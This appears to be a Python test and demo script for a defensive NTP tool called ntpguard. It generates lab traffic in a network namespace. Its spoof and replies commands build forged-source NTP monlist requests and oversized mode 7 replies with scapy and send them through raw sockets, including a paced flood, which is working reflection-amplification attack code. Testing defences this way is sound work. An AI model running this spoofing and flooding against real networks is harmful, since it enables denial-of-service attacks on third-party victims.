#!/usr/bin/python3
"""ngtraffic.py - traffic for ntpguard's reflection demo and scenario tests.

Run inside a network namespace (scripts/topology.sh does that). Debian's
/usr/bin/python3 with python3-scapy. Every loop is bounded.

  spoof  --src A --sport P --dst D [--count N] [--inter S]
         [--rate PPS --duration S]
      Monlist requests in the attack-tool form (8-octet mode 7 header,
      VN 2, impl 3, code 42) from the spoofed source A:P to D:123, built
      with scapy and sent through a raw socket (IP_HDRINCL), so the kernel
      keeps the forged source. Either COUNT requests INTER seconds apart, or
      a paced flood of RATE requests/s for DURATION s (capped at 5000/s and
      10 s). Prints "packets payload_bytes ip_bytes" of what was sent.

  sink   --bind A --port P --out FILE [--duration S]
      The victim: counts every datagram arriving on A:P and keeps
      "packets payload_bytes ip_bytes" in FILE (replaced atomically), until
      SIGTERM or DURATION s (default 300).

  replies --srcs A,B,... --dst D [--dport P] [--size N]
      One oversized mode 7 response (a monlist data packet of N octets,
      default 440) from each source A:123 to D:P (default 40123), forged
      through a raw socket: many "reflectors" at once, for the reflector
      table's overflow. Prints "packets payload_bytes ip_bytes".

  mode6  --dst D [--count N] [--wait S]
      N mode 6 READVAR requests (what "ntpq -c rv" sends; 12 octets, VN 2)
      from one socket, as fast as possible, then collects replies for WAIT s.
      Prints "sent N answered M" (answered = distinct sequence numbers that
      got at least one response fragment).
"""
import argparse
import os
import signal
import socket
import struct
import sys
import time

MONLIST_8 = bytes.fromhex("1700032a00000000")  # V3 of the protocol note


def spoof(a):
    from scapy.layers.inet import IP, UDP  # ~0.4 s; only what is needed
    from scapy.packet import Raw, raw

    frame = raw(IP(src=a.src, dst=a.dst, ttl=64) / UDP(sport=a.sport, dport=123) /
                Raw(MONLIST_8))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    sent = 0

    def send_one():
        nonlocal sent
        try:
            s.sendto(frame, (a.dst, 0))
            sent += 1
        except (BlockingIOError, OSError):
            pass  # a full queue loses a packet; counted as not sent

    if a.rate:
        rate = min(a.rate, 5000)
        dur = min(a.duration, 10.0)
        t0 = time.monotonic()
        while True:
            now = time.monotonic() - t0
            if now >= dur:
                break
            due = min(int(now * rate) + 1, int(dur * rate))
            while sent < due:
                send_one()
            time.sleep(0.002)
    else:
        for i in range(min(a.count, 100000)):
            send_one()
            if a.inter and i + 1 < a.count:
                time.sleep(a.inter)
    print(sent, sent * len(MONLIST_8), sent * len(frame))


def sink(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:  # room for a whole monlist burst (100 x 440 octets) and more
        s.setsockopt(socket.SOL_SOCKET, 33, 8 << 20)  # SO_RCVBUFFORCE
    except OSError:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    s.bind((a.bind, a.port))
    s.settimeout(0.05)
    stop = False

    def on_term(*_):
        nonlocal stop
        stop = True

    signal.signal(signal.SIGTERM, on_term)
    signal.signal(signal.SIGINT, on_term)
    pk = pay = 0
    written = None
    end = time.monotonic() + a.duration

    def write():
        nonlocal written
        line = "%d %d %d\n" % (pk, pay, pay + 28 * pk)  # + IPv4 and UDP headers
        if line != written:
            with open(a.out + ".tmp", "w") as f:
                f.write(line)
            os.replace(a.out + ".tmp", a.out)
            written = line

    write()
    last_write = time.monotonic()
    while not stop and time.monotonic() < end:
        try:
            d = s.recv(65535)
            pk += 1
            pay += len(d)
        except socket.timeout:
            write()
            last_write = time.monotonic()
            continue
        except InterruptedError:
            continue
        if time.monotonic() - last_write > 0.05:
            write()
            last_write = time.monotonic()
    write()


def mode6(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    s.connect((a.dst, 123))
    n = min(a.count, 10000)
    for seq in range(1, n + 1):
        # LI 0, VN 2, mode 6 | R=0 M=0 E=0 op 2 (READVAR) | seq | status 0 |
        # associd 0 | offset 0 | count 0
        s.send(struct.pack("!BBHHHHH", 0x16, 0x02, seq, 0, 0, 0, 0))
    answered = set()
    s.settimeout(0.05)
    end = time.monotonic() + a.wait
    while time.monotonic() < end:
        try:
            d = s.recv(65535)
        except socket.timeout:
            continue
        except ConnectionRefusedError:
            continue
        if len(d) >= 12 and d[0] & 7 == 6 and d[1] & 0x80:
            answered.add(struct.unpack("!H", d[2:4])[0])
    print("sent %d answered %d" % (n, len(answered)))


def replies(a):
    from scapy.layers.inet import IP, UDP
    from scapy.packet import Raw, raw

    payload = bytes([0x97, 0x00, 0x03, 0x2a, 0x00, 0x06, 0x00, 0x48]) + \
        bytes(max(a.size - 8, 0))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    for src in a.srcs.split(",")[:4096]:
        frame = raw(IP(src=src, dst=a.dst, ttl=64) / UDP(sport=123, dport=a.dport) /
                    Raw(payload))
        try:
            s.sendto(frame, (a.dst, 0))
            sent += 1
        except OSError:
            pass
    print("%d %d %d" % (sent, sent * len(payload), sent * (len(payload) + 28)))


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = p.add_subparsers(dest="cmd", required=True)
    sp = sub.add_parser("spoof")
    sp.add_argument("--src", required=True)
    sp.add_argument("--sport", type=int, default=40123)
    sp.add_argument("--dst", required=True)
    sp.add_argument("--count", type=int, default=1)
    sp.add_argument("--inter", type=float, default=0.0)
    sp.add_argument("--rate", type=int, default=0)
    sp.add_argument("--duration", type=float, default=0.0)
    sk = sub.add_parser("sink")
    sk.add_argument("--bind", required=True)
    sk.add_argument("--port", type=int, default=40123)
    sk.add_argument("--out", required=True)
    sk.add_argument("--duration", type=float, default=300.0)
    m6 = sub.add_parser("mode6")
    m6.add_argument("--dst", required=True)
    m6.add_argument("--count", type=int, default=1)
    m6.add_argument("--wait", type=float, default=1.0)
    rp = sub.add_parser("replies")
    rp.add_argument("--srcs", required=True)
    rp.add_argument("--dst", required=True)
    rp.add_argument("--dport", type=int, default=40123)
    rp.add_argument("--size", type=int, default=440)
    a = p.parse_args()
    {"spoof": spoof, "sink": sink, "mode6": mode6, "replies": replies}[a.cmd](a)


if __name__ == "__main__":
    sys.exit(main())
